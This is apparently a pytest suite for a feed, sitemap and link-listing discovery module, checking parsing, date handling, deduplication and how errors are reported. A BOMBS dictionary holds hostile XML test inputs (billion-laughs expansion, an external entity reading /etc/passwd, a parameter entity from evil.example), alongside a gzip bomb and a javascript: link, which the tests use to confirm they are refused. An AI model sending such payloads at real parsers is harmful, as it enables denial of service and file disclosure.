from __future__ import annotations

import contextlib
import gzip
import json
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jumpline.config import Source
from jumpline.errors import DiscoveryError
from jumpline.model import Capture
from jumpline.web import discover

AT = "https://gazette.example/section/feed.xml"
RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Gazette</title><link>https://gazette.example/</link>{items}</channel></rss>"""
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"'


def capture(body: str | bytes, *, status=200, url=AT, cut=None, **headers: str) -> Capture:
    content = body.encode() if isinstance(body, str) else body
    sent = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    return Capture(url, url, status, sent, content, datetime(2026, 1, 2, tzinfo=UTC), cut)


def rss(*items: str) -> Capture:
    return capture(
        RSS.format(items="".join(f"<item>{item}</item>" for item in items)), Content_Type="application/rss+xml"
    )


def only(found):
    (candidate,) = found.candidates
    return candidate


class TestFeed:
    def test_reads_rss(self):
        found = discover.feed(
            rss(
                "<title>Tide &amp; <![CDATA[<b>time</b>]]></title><link>/a?x=1#c</link>"
                "<pubDate>Mon, 06 Sep 2021 12:00:00 +0200</pubDate><description>Short.</description>"
            ),
            "gazette",
        )
        candidate = only(found)
        assert candidate.source == "gazette"
        assert candidate.url == "https://gazette.example/a?x=1"
        assert candidate.title == "Tide & time"
        assert candidate.published == datetime(2021, 9, 6, 10, tzinfo=UTC)
        assert candidate.feed_text == "Short."
        assert found.problems == ()

    def test_takes_the_longest_text_as_plain_paragraphs(self):
        found = discover.feed(
            rss(
                "<link>https://gazette.example/a</link><description>Short.</description><content:encoded><![CDATA["
                "<p>One\nline<script>no()</script></p><!-- no --><p>Two<br>lines &amp; more</p><style>p{}</style>]]></content:encoded>"
            ),
            "s",
        )
        assert only(found).feed_text == "One line\nTwo\nlines & more"

    def test_leaves_out_the_credit_line_that_wordpress_adds(self):
        body = (
            '<p>The harbour froze over.</p><p>Der Beitrag <a rel="nofollow" href="https://gazette.example/a">A</a> '
            'erschien zuerst auf <a href="https://gazette.example">Gazette</a>.</p>\n'
        )
        item = f"<link>https://gazette.example/a</link><content:encoded><![CDATA[{body}]]></content:encoded>"
        assert only(discover.feed(rss(item), "s")).feed_text == "The harbour froze over."

    def test_reads_atom(self):
        found = discover.feed(
            capture(
                '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://gazette.example/x/"><title>G</title><entry>'
                '<title type="html">A &lt;i&gt;ship&lt;/i&gt;</title><link rel="alternate" href="b"/>'
                "<updated>2024-05-01T10:00:00Z</updated><summary>Short</summary>"
                '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Whole text.</p></div></content>'
                "</entry></feed>"
            ),
            "s",
        )
        candidate = only(found)
        assert (candidate.url, candidate.title) == ("https://gazette.example/x/b", "A ship")
        assert candidate.feed_text == "Whole text."
        assert candidate.published == datetime(2024, 5, 1, 10, tzinfo=UTC)

    def test_reads_rdf(self):
        found = discover.feed(
            capture(
                '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" '
                'xmlns:dc="http://purl.org/dc/elements/1.1/"><item rdf:about="https://gazette.example/c"><title>C</title>'
                "<link>https://gazette.example/c</link><dc:date>2024-05-01T00:00:00+09:00</dc:date></item></rdf:RDF>"
            ),
            "s",
        )
        assert only(found).url == "https://gazette.example/c"
        assert only(found).published == datetime(2024, 4, 30, 15, tzinfo=UTC)

    def test_reads_json_feed(self):
        items = [
            {"id": "1", "url": "/a", "title": "A < B", "content_html": "<p>One</p><p>Two</p>", "summary": "x",
             "date_published": "2024-05-01T10:00:00+02:00"},
            {"id": "https://gazette.example/b", "content_text": "1 < 2 & 3"},
            {"id": "3"},
            "nonsense",
        ]  # fmt: skip
        body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": items})
        found = discover.feed(capture("\ufeff" + body), "s")
        first, second = found.candidates
        assert (first.url, first.title, first.feed_text) == ("https://gazette.example/a", "A < B", "One\nTwo")
        assert first.published == datetime(2024, 5, 1, 8, tzinfo=UTC)
        assert (second.url, second.title, second.feed_text) == ("https://gazette.example/b", None, "1 < 2 & 3")
        assert found.problems == ("1 of 3 entries name no address of the web",)

    @pytest.mark.parametrize(
        "feed",
        [
            (
                "<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' "
                "'http://my.netscape.com/publish/formats/rss-0.91.dtd'><rss version='0.91'><channel><title>F</title>"
                "<language>en-gb</language><item><title>T</title><link>https://daily.example/a</link></item></channel></rss>"
            ),
            (
                "<rss version='0.92'><channel><title>F</title><language>en</language>"
                "<item><title>T</title><link>https://daily.example/a</link></item></channel></rss>"
            ),
            (
                "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://my.netscape.com/rdf/simple/0.9/'>"
                "<channel><title>F</title></channel><item><title>T</title><link>https://daily.example/a</link></item></rdf:RDF>"
            ),
            (
                "<rss version='2.0'><channel><title>F</title><language>en_US</language>"
                "<item><title>T</title><guid>https://daily.example/a</guid></item></channel></rss>"
            ),
            (
                "<feed version='0.3' xmlns='http://purl.org/atom/ns#' xml:lang='en'><title>F</title><entry><title>T</title>"
                "<link rel='alternate' type='text/html' href='https://daily.example/a'/></entry></feed>"
            ),
            (
                "<feed xmlns='http://www.w3.org/2005/Atom' xml:lang='en'><title>F</title><entry><title>T</title>"
                "<link href='https://daily.example/a'/></entry></feed>"
            ),
            (
                '{"version": "https://jsonfeed.org/version/1", "title": "F", "language": "en", '
                '"items": [{"id": "1", "url": "https://daily.example/a", "title": "T"}]}'
            ),
            (
                '{"version": "https://jsonfeed.org/version/1.1", "title": "F", "language": "en-AU", '
                '"items": [{"id": "https://daily.example/a", "title": "T"}]}'
            ),
        ],
    )
    def test_reads_every_version_there_is_and_its_language(self, feed):
        found = only(discover.feed(capture(feed), "daily"))
        assert (found.url, found.title) == ("https://daily.example/a", "T")
        assert found.language == ("en" if "lang" in feed else None)

    def test_names_each_address_once_in_the_order_of_the_feed(self):
        links = ["/b", "/a", "/b?utm_source=rss", "/c"]
        found = discover.feed(rss(*(f"<link>{link}</link>" for link in links)), "s")
        assert [c.url.removeprefix("https://gazette.example") for c in found.candidates] == ["/b", "/a", "/c"]

    def test_tells_what_is_malformed_and_reads_the_rest(self):
        found = discover.feed(rss("<title>A & B</title><link>/a</link>", "<link>javascript:alert(1)</link>"), "s")
        assert only(found).url == "https://gazette.example/a"
        assert len(found.problems) == 2
        assert found.problems[0].startswith("malformed")

    def test_an_impossible_date_is_no_date(self):
        assert only(discover.feed(rss("<link>/a</link><pubDate>Wed, 99 Foo 2021</pubDate>"), "s")).published is None

    def test_a_feed_that_was_cut_offers_what_surely_came_whole(self):
        whole = RSS.format(items="<item><link>/a</link></item><item><link>/bcd</link></item>")
        found = discover.feed(capture(whole[: whole.index("cd</link>")], cut="length"), "s")
        assert [c.url for c in found.candidates] == ["https://gazette.example/a"]
        assert "cut short by length" in found.problems

    def test_an_empty_feed_is_a_feed(self):
        assert discover.feed(rss(), "s") == discover.Feed(())

    def test_nothing_changed_is_nothing_offered(self):
        assert discover.feed(capture(b"", status=304), "s").candidates == ()

    @pytest.mark.parametrize(
        ("body", "said"),
        [
            ("", "no feed"),
            ("<html><body>Welcome</body></html>", "no feed"),
            ("{]", "no JSON Feed"),
            ('{"items": []}', "no JSON Feed"),
            ("{" * 100_000, "no JSON Feed"),
            ('<link rel="alternate" type="application/rss+xml" href="/rss">', "https://gazette.example/rss"),
            (b"\x00\xff\x00\xfe" * 50, "no feed"),
        ],
    )
    def test_what_is_no_feed_is_an_error_that_says_so(self, body, said):
        with pytest.raises(DiscoveryError, match=said):
            discover.feed(capture(body), "s")

    @pytest.mark.parametrize("status", [401, 403, 404, 410, 204])
    def test_a_refusal_is_an_error(self, status):
        with pytest.raises(DiscoveryError, match=str(status)):
            discover.feed(capture(RSS, status=status), "s")


def laughs(root: str, depth: int = 9) -> str:
    made = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, depth))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{made}]><{root}><loc>&l{depth - 1};</loc></{root}>'


BOMBS = {
    "billion laughs": laughs("rss"),
    "billion laughs of a sitemap": laughs("urlset"),
    "billion laughs in UTF-16": laughs("rss").encode("utf-16"),
    "one long entity": f'<!DOCTYPE r [<!ENTITY a "{"x" * 9999}">]><rss>{"&a;" * 999}</rss>',
    "external entity": '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss>&a;</rss>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><rss/>',
    "EBCDIC": '<?xml version="1.0" encoding="cp037"?><rss/>'.encode("cp037"),
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.parametrize("read", [discover.feed, discover.sitemap])
def test_malicious_xml_is_refused(read, name):
    with pytest.raises(DiscoveryError, match="refused"):
        read(capture(BOMBS[name]), "s")


def test_entities_that_name_characters_are_harmless():
    body = RSS.format(items="<item><title>caf&eacute;</title><link>/a</link></item>")
    declared = body.replace("<rss", '<!DOCTYPE rss [\n<!ENTITY eacute "&#233;">\n]>\n<rss', 1)
    assert only(discover.feed(capture(declared), "s")).title == "café"


def test_finds_the_feeds_a_page_names():
    page = """<link rel="stylesheet" href="/x.css"><link rel=alternate type=application/rss+xml href=/rss>
    <link rel="home ALTERNATE" type="application/atom+xml" href="atom.xml"><link rel=alternate type=text/html href=/de>
    <link rel=alternate type=application/feed+json href=/rss>"""
    assert discover.feeds_of(capture(page)) == (
        "https://gazette.example/rss",
        "https://gazette.example/section/atom.xml",
    )


class TestSitemap:
    def test_reads_addresses_newest_first(self):
        found = discover.sitemap(
            capture(
                f"<urlset {NS}><url><loc>https://gazette.example/old</loc><lastmod>2020-01-01</lastmod></url>"
                "<url><loc> https://gazette.example/undated\n</loc></url>"
                "<url><loc>https://gazette.example/new</loc><lastmod>2024-05-01T10:00+02:00</lastmod></url></urlset>"
            ),
            "s",
        )
        assert [c.url.rpartition("/")[2] for c in found.candidates] == ["new", "old", "undated"]
        assert {c.published for c in found.candidates} == {None}
        assert found.children == ()

    def test_reads_the_news_extension(self):
        found = discover.sitemap(
            capture(
                f'<urlset {NS} xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"><url>'
                "<image:image><image:loc>https://cdn.example/x.jpg</image:loc><image:title>Photo</image:title></image:image>"
                "<loc>https://gazette.example/a</loc><news:news><news:publication><news:name>G</news:name>"
                "<news:language>zh-cn</news:language></news:publication><news:publication_date>2024-05-01T10:00:00+02:00</news:publication_date>"
                "<news:title>Ice &amp; fog</news:title></news:news></url></urlset>"
            ),
            "s",
        )
        candidate = only(found)
        assert (candidate.url, candidate.title) == ("https://gazette.example/a", "Ice & fog")
        assert candidate.published == datetime(2024, 5, 1, 8, tzinfo=UTC)
        assert candidate.language == "zh"

    def test_an_index_names_its_children_newest_first(self):
        found = discover.sitemap(
            capture(
                f"<sitemapindex {NS}><sitemap><loc>/2020.xml</loc><lastmod>2020</lastmod></sitemap>"
                "<sitemap><loc>/2024.xml</loc><lastmod>2024-02</lastmod></sitemap></sitemapindex>"
            ),
            "s",
        )
        assert found.children == ("https://gazette.example/2024.xml", "https://gazette.example/2020.xml")
        assert found.candidates == ()

    @pytest.mark.parametrize(
        "body",
        [
            "<urlset><url><loc>https://gazette.example/a</loc></url></urlset>",
            "<!-- sitemap --><s:urlset xmlns:s='urn:x'><s:url><s:loc>/a</s:loc></s:url></s:urlset>",
            "<?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><urlset><url><loc>/a</loc></url></urlset>",
            "<urlset><url><loc><![CDATA[https://gazette.example/a]]></loc></url><url><loc>mailto:x</loc></url></urlset>",
            "<urlset><url><loc>https://gazette.example/a</loc><x>a & b</x></url></urlset>",
            "https://gazette.example/a\n\nhttps://gazette.example/a\n",
            "\ufeffhttps://gazette.example/a",
            gzip.compress(b"<urlset><url><loc>https://gazette.example/a</loc></url></urlset>"),
            gzip.compress(b"https://gazette.example/a"),
            "<urlset><url><loc>https://gazette.example/a</loc></url></urlset>".encode("utf-16"),
            RSS.format(items="<item><link>https://gazette.example/a</link></item>"),
        ],
    )
    def test_reads_sitemaps_of_every_form(self, body):
        assert only(discover.sitemap(capture(body), "s")).url == "https://gazette.example/a"

    @pytest.mark.parametrize(
        ("body", "said"),
        [
            ("", "no sitemap"),
            ("<html><body>Not here</body></html>", "<html>"),
            ("not found", "no sitemap"),
            (b"\x1f\x8b\x08broken", "broken gzip"),
        ],
    )
    def test_what_is_no_sitemap_is_an_error_that_says_so(self, body, said):
        with pytest.raises(DiscoveryError, match=said):
            discover.sitemap(capture(body), "s")

    def test_a_gzip_bomb_is_unpacked_no_further_than_the_protocol_allows(self):
        body = gzip.compress(b"<urlset><url><loc>/a</loc></url><url><loc>/b</loc></url>" + b" " * 60_000_000)
        found = discover.sitemap(capture(body), "s")
        assert "cut short by length" in found.problems

    def test_a_sitemap_that_was_cut_offers_what_surely_came_whole(self):
        found = discover.sitemap(capture("<urlset><url><loc>/a</loc></url><url><loc>/bc", cut="time"), "s")
        assert [c.url for c in found.candidates] == ["https://gazette.example/a"]

    def test_nothing_changed_is_nothing_offered(self):
        assert discover.sitemap(capture(b"", status=304), "s") == discover.Sitemap((), ())


PAGE = """<html><body><nav><a href="/how-we-work-and-why">How we work and why we do it</a></nav>
<a href="/2024/05/ice-on-the-river"><img src="x.jpg"></a>
<a href="/2024/05/ice-on-the-river?utm_source=home"><h2>Ice on the river</h2><p>A long teaser that follows</p></a>
<a href="https://news.gazette.example/story-4711.html">Short</a>
<a href="/kurz">A headline that has five words</a>
<a href="/kanji">川の氷が溶け始める、春の訪れ</a>
<a href="/section">Politics</a> <a href="/category/politics-and-world-news/">Politics</a>
<a href="mailto:desk@gazette.example">Write to us if you know more</a>
<a href="https://elsewhere.example/a-story-of-other-people">Other people</a>
<a href="/photo-of-the-day.jpg">Photo of the day by us</a> <a href="http://[broken">A link that leads nowhere at all</a>
<a href="feed.xml#top">This page, once more, from its top</a> <a name="x">No address at all in this</a>
<footer><a href="/terms-and-conditions-of-use">Terms</a></footer></body></html>"""


def source(**terms) -> Source:
    return Source.model_validate({"name": "s", "kind": "listing", "url": AT} | terms)


class TestListing:
    def paths(self, **terms) -> list[str]:
        found = discover.listing(capture(PAGE), source(**terms))
        return [candidate.url.removeprefix("https://gazette.example") for candidate in found]

    def test_finds_what_looks_like_an_article_of_the_same_site(self):
        assert self.paths() == [
            "/2024/05/ice-on-the-river",
            "https://news.gazette.example/story-4711.html",
            "/kurz",
            "/kanji",
        ]

    def test_titles_it_by_its_headline(self):
        found = discover.listing(capture(PAGE), source())
        assert [candidate.title for candidate in found] == [
            "Ice on the river",
            "Short",
            "A headline that has five words",
            "川の氷が溶け始める、春の訪れ",
        ]

    def test_what_the_operator_includes_needs_no_looks(self):
        assert self.paths(include=["/section$", "/terms-"]) == ["/section", "/terms-and-conditions-of-use"]

    def test_what_the_operator_excludes_is_left_out(self):
        assert self.paths(exclude=["/2024/", "news\\."]) == ["/kurz", "/kanji"]

    def test_obeys_the_base_of_the_page(self):
        page = '<base href="https://gazette.example/deep/"><a href="a-long-slug-here">x</a>'
        (candidate,) = discover.listing(capture(page), source())
        assert candidate.url == "https://gazette.example/deep/a-long-slug-here"

    def test_works_on_an_address_with_a_port(self):
        page = capture('<a href="/a-long-slug-here">x</a>', url="http://127.0.0.1:8080/")
        assert [c.url for c in discover.listing(page, source())] == ["http://127.0.0.1:8080/a-long-slug-here"]

    def test_decodes_by_the_charset_of_the_answer(self):
        page = capture(
            '<a href="/a-long-slug-here">Żółć</a>'.encode("iso-8859-2"), Content_Type="text/html; charset=iso-8859-2"
        )
        assert discover.listing(page, source())[0].title == "Żółć"

    def test_an_empty_page_is_an_error(self):
        with pytest.raises(DiscoveryError, match="empty"):
            discover.listing(capture(b" "), source())


SEEDS = [
    RSS.format(items="<item><title>T</title><link>/a</link></item>"),
    PAGE,
    laughs("rss", 3),
    f"<urlset {NS}></urlset>",
]


@given(st.sampled_from(SEEDS), st.lists(st.tuples(st.integers(0, 2000), st.binary(max_size=6)), max_size=8))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_bytes_bring_anything_but_our_own_errors(seed, edits):
    body = bytearray(seed.encode())
    for place, piece in edits:
        body[place % len(body) : place % len(body) + len(piece)] = piece
    for read in (discover.feed, discover.sitemap):
        with contextlib.suppress(DiscoveryError):
            read(capture(bytes(body)), "s")
    with contextlib.suppress(DiscoveryError):
        discover.listing(capture(bytes(body)), source())
